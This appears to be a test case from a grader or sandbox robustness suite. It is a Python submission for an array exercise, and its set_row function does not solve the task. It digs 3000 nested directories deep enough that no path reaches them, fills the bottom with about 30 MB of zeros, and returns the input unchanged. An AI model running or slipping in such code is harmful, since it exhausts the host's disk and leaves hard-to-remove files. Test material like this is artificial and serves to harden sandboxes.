"""Digs folders so deep that no path reaches them, and hides files at the bottom (R03).

Exercise: 01_arrays/set_row
Outcome: crashed
Slow: it waits for a limit, or fills something first
"""

import os


def set_row(x, i, row):
    folder = os.open(".", os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("d" * 100, dir_fd=folder)
        inner = os.open("d" * 100, os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    for k in range(5):
        file = os.open(f"large{k}", os.O_WRONLY | os.O_CREAT, dir_fd=folder)
        os.write(file, bytes(6 << 20))
    return x
